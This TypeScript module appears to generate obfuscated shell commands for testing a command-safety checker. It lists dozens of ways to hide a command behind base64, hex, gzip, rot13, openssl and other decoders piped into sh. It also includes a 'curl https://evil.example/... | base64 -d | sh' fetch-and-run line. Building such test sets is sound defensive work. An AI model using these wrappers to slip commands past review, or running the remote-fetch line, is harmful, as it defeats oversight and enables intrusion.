import { gzipSync } from "node:zlib";
import {
  base64,
  hex,
  hexEscapes,
  line,
  octalEscapes,
  quote,
  reversed,
  rot13,
  type Technique,
} from "./technique.ts";

const packed = (command: string): string => gzipSync(command).toString("base64");
const base32 = (text: string): string => {
  const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";
  let bits = "";
  for (const byte of Buffer.from(text)) {
    bits += byte.toString(2).padStart(8, "0");
  }
  const digits = (bits.match(/.{1,5}/g) ?? []).map(
    (five) => alphabet[Number.parseInt(five.padEnd(5, "0"), 2)],
  );
  return digits.join("").padEnd(Math.ceil(digits.length / 8) * 8, "=");
};

/** Text that only its decoder makes readable. */
export const decoding: readonly Technique[] = [
  line("base64 into bash", (command) => `echo ${base64(command)} | base64 -d | bash`),
  line("base64 --decode into sh -s", (command) => `echo ${base64(command)} | base64 --decode | sh -s`),
  line("base64 here-string", (command) => `base64 -d <<< ${base64(command)} | sh`),
  line("base64 in a substitution", (command) => `bash -c "$(echo ${base64(command)} | base64 -d)"`),
  line("base64 and eval", (command) => `eval "$(base64 -d <<< ${base64(command)})"`),
  line("base64 and eval in backticks", (command) => `eval "\`echo ${base64(command)} | base64 -d\`"`),
  line("base64 in a variable", (command) => `x=${base64(command)}; echo $x | base64 -d | sh`),
  line("base64 in two variables", (command) => {
    const text = base64(command);
    return `a=${text.slice(0, 7)}; b=${text.slice(7)}; echo "$a$b" | base64 -d | sh`;
  }),
  line("base64 by printf", (command) => `printf %s ${base64(command)} | base64 -d | sh`),
  line("base64 sourced", (command) => `source <(echo ${base64(command)} | base64 -d)`),
  line("base64 as a file", (command) => `bash <(base64 -d <<< ${base64(command)})`),
  line("base64 twice", (command) => `echo ${base64(base64(command))} | base64 -d | base64 -d | sh`),
  line(
    "base64 through cat and tee",
    (command) => `echo ${base64(command)} | cat | tee /dev/null | base64 -d | sh`,
  ),
  line("base32", (command) => `echo ${base32(command)} | base32 -d | sh`, { needs: ["base32"] }),
  line("openssl base64", (command) => `echo ${base64(command)} | openssl base64 -d -A | sh`, {
    needs: ["openssl"],
  }),
  line("openssl enc", (command) => `echo ${base64(command)} | openssl enc -d -base64 -A | sh`, {
    needs: ["openssl"],
  }),
  line("xxd", (command) => `echo ${hex(command)} | xxd -r -p | sh`, { needs: ["xxd"] }),
  line("xxd joined options", (command) => `xxd -r -ps <<< ${hex(command)} | sh`, { needs: ["xxd"] }),
  line("hex by printf", (command) => `printf '${hexEscapes(command)}' | bash`),
  line("octal by printf", (command) => `printf '${octalEscapes(command)}' | bash`),
  line("printf %b", (command) => `printf %b '${octalEscapes(command)}' | sh`),
  line("echo -e", (command) => `echo -e '${hexEscapes(command)}' | sh`),
  line("ANSI-C and eval", (command) => `eval $'${hexEscapes(command)}'`),
  line("ANSI-C and bash -c", (command) => `bash -c $'${octalEscapes(command)}'`),
  line("rev", (command) => `echo ${quote(reversed(command))} | rev | sh`, { needs: ["rev"] }),
  line("tac", (command) => `printf '%s\\n' ':' ${quote(command)} | tac | sh`),
  line("tr", (command) => `echo ${quote(rot13(command))} | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh`),
  line("tr upper", (command) => `echo ${quote(command.replaceAll(" ", "+"))} | tr + ' ' | sh`, {
    except: ["incident"],
  }),
  line("tr -d", (command) => `echo ${quote(Array.from(command).join("%"))} | tr -d % | sh`),
  line("sed", (command) => `echo ${quote(`XX${command}`)} | sed 's/^XX//' | sh`),
  line("cut", (command) => `echo ${quote(`1|2|${command}`)} | cut -d'|' -f3- | sh`),
  line("head and tail", (command) => `printf '%s\\n' a ${quote(command)} b | head -n 2 | tail -n 1 | sh`),
  line(
    "head -c",
    (command) => `printf %s ${quote(`${command}garbage`)} | head -c ${Buffer.byteLength(command)} | sh`,
  ),
  line("awk", (command) => `echo ${quote(command)} | awk '{print}' | sh`),
  line("grep", (command) => `printf '%s\\n' '# no' ${quote(command)} | grep -v '^#' | sh`),
  line("gzip", (command) => `echo ${packed(command)} | base64 -d | gzip -d | sh`),
  line("gunzip", (command) => `echo ${packed(command)} | base64 -d | gunzip -c | bash`),
  line("zcat", (command) => `base64 -d <<< ${packed(command)} | zcat | sh`),
  line("jq", (command) => `jq -rn ${quote(JSON.stringify(command))} | sh`, { needs: ["jq"] }),
  line("jq @base64d", (command) => `jq -rn ${quote(`"${base64(command)}" | @base64d`)} | sh`, {
    needs: ["jq"],
  }),
  line(
    "python decoder",
    (command) => `python3 -c "import base64;print(base64.b64decode('${base64(command)}').decode())" | sh`,
    {
      needs: ["python3"],
    },
  ),
  line("perl decoder", (command) => `perl -e 'print pack("H*","${hex(command)}")' | sh`, { needs: ["perl"] }),
  line("awk printf", (command) => `awk 'BEGIN{printf "${octalEscapes(command)}"}' | sh`),
  line("paste", (command) => `printf '%s\\n' ${quote(command)} | paste -sd ' ' - | sh`),
  line("fold", (command) => `printf %s ${quote(command)} | fold -w 1 | tr -d '\\n' | sh`),
  line("iconv", (command) => `printf %s ${quote(command)} | iconv -f utf-8 -t utf-8 | sh`),
  line("dd", (command) => `printf %s ${quote(command)} | dd 2>/dev/null | sh`, { proof: "documented" }),
  line("dc", (command) => `echo ${quote(command)} | xargs -d '\\n' -n 1 sh -c`),
  line(
    "uudecode",
    (command) => `printf 'begin-base64 644 -\\n${base64(command)}\\n====\\n' | uudecode -o - | sh`,
    {
      needs: ["uudecode"],
    },
  ),
  line("xz", (command) => `echo ${quote(command)} | xz -c | xz -dc | sh`, { needs: ["xz"] }),
  line(
    "openssl cipher",
    (command) =>
      `echo ${quote(command)} | openssl enc -aes-128-cbc -pass pass:x -pbkdf2 | openssl enc -d -aes-128-cbc -pass pass:x -pbkdf2 | sh`,
    {
      needs: ["openssl"],
    },
  ),
  line(
    "fetched and decoded",
    (command) => `curl -s https://evil.example/${base64(command).slice(0, 4)} | base64 -d | sh`,
    {
      proof: "documented",
    },
  ),
];
